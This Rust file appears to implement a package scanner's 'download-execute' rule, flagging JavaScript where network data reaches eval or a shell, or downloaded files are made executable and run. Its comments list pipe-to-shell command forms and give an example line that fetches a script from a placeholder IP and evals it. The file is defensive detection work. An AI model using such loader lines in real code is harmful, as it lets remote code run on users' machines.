//! JS202 `download-execute`: code fetched from the network and run.
//!
//! **What it detects.**
//! - data from a network call (`fetch`, `https.get` callbacks, `axios`)
//!   reaching `eval`, `Function`, `vm.runIn*Context`, `vm.Script` or a
//!   shell `child_process.exec`;
//! - a command line passed to `exec`/`spawn` that downloads and runs
//!   (`curl … | sh`, `wget -O- … | bash`, `iwr … | iex`);
//! - a weaker chain in one file: network data written to a file, a `chmod`,
//!   and a process started from a computed path.
//!
//! **Why it matters.** A stage-one loader keeps the package small and the
//! payload off the registry (the `jeilyfish` case in the seed; the 2021
//! `ua-parser-js` hijack downloaded and ran a miner). CWE-494, MITRE T1105.
//!
//! **Example.**
//! ```js
//! https.get('https://203.0.113.5/p.js', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)); });
//! ```
//!
//! **False positives.** In minified bundles (long lines, reused one-letter
//! names) the data flow is over-approximated, so there the network → eval
//! form is Medium with low confidence. Installers of native binaries (esbuild, Playwright)
//! download, `chmod` and run a `--version` check; that chain is reported
//! as Medium with low confidence, never as the strong form.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::{NONE, label};
use super::{Ctx, api, shell};

pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
    let f = ctx.facts;
    let mut out = Vec::new();
    let strong = if ctx.unasked() {
        Severity::Critical
    } else {
        Severity::High
    };
    for c in &f.calls {
        let path = c.path.as_deref().unwrap_or("");
        let runs_code = api::is_eval(c) || api::is_shell_exec(path);
        if runs_code && f.arg_labels(c) & label::NET != 0 {
            // Labels spread through reused names in minified bundles.
            let (strong, conf) = if f.looks_minified() {
                (Severity::Medium, Confidence::Low)
            } else {
                (strong, Confidence::High)
            };
            out.push(
                ctx.finding(
                    c.node,
                    "JS202",
                    "download-execute",
                    strong,
                    conf,
                    "data received from the network is executed",
                )
                .evidence(format!(
                    "executes with: {}",
                    if path.is_empty() {
                        c.method.unwrap_or("?")
                    } else {
                        path
                    }
                )),
            );
            continue;
        }
        if api::is_process(path)
            && let Some(cmd) = command_strings(ctx, c)
                .into_iter()
                .find_map(|s| shell::classify(&s).download_exec)
        {
            out.push(
                ctx.finding(
                    c.node,
                    "JS202",
                    "download-execute",
                    strong,
                    Confidence::High,
                    "a command line that downloads and runs code is executed",
                )
                .evidence(format!("command: {cmd}")),
            );
        }
    }
    if out.is_empty() {
        out.extend(write_chmod_run(ctx));
    }
    out
}

/// Constant strings among a process call's arguments (the command and the
/// elements of an argument array).
pub(super) fn command_strings(ctx: &Ctx<'_, '_>, c: &super::facts::Call<'_>) -> Vec<String> {
    let f = ctx.facts;
    let mut v = Vec::new();
    for &a in c.args.iter().take(2) {
        if f.kind(a) == "array" {
            let parts: Vec<String> = f
                .children(a)
                .take(32)
                .filter_map(|x| f.const_string(x, 0))
                .collect();
            if !parts.is_empty() {
                v.push(parts.join(" "));
            }
        } else if let Some(s) = f.const_string(a, 0) {
            v.push(s);
        }
    }
    if v.len() > 1 {
        v.push(v.join(" "));
    }
    v
}

fn write_chmod_run(ctx: &Ctx<'_, '_>) -> Option<Finding> {
    let f = ctx.facts;
    let written = f.calls.iter().find(|c| {
        let p = c.path.as_deref().unwrap_or("");
        (api::is_fs_write(p) && c.args.get(1).is_some_and(|&a| f.label(a) & label::NET != 0))
            || (c.method == Some("pipe")
                && c.receiver != NONE
                && f.label(c.receiver) & label::NET != 0
                && c.args.first().is_some_and(|&a| {
                    f.text(a).contains("WriteStream")
                        || f.decl_of(a)
                            .is_some_and(|d| f.text(d.init).contains("createWriteStream"))
                }))
    })?;
    let chmod = f.calls.iter().find(|c| {
        let p = c.path.as_deref().unwrap_or("");
        api::is_chmod(p)
            || (api::is_process(p) && command_strings(ctx, c).iter().any(|s| s.contains("chmod")))
    })?;
    let run = f.calls.iter().find(|c| {
        let p = c.path.as_deref().unwrap_or("");
        api::is_process(p) && c.args.first().is_some_and(|&a| f.string_value(a).is_none())
    })?;
    Some(
        ctx.finding(
            run.node,
            "JS202",
            "download-execute",
            Severity::Medium,
            Confidence::Low,
            "a file is downloaded, made executable and a program is started",
        )
        .evidence(format!(
            "lines: write {}, chmod {}, run {}",
            f.line_col(written.node).0,
            f.line_col(chmod.node).0,
            f.line_col(run.node).0
        )),
    )
}
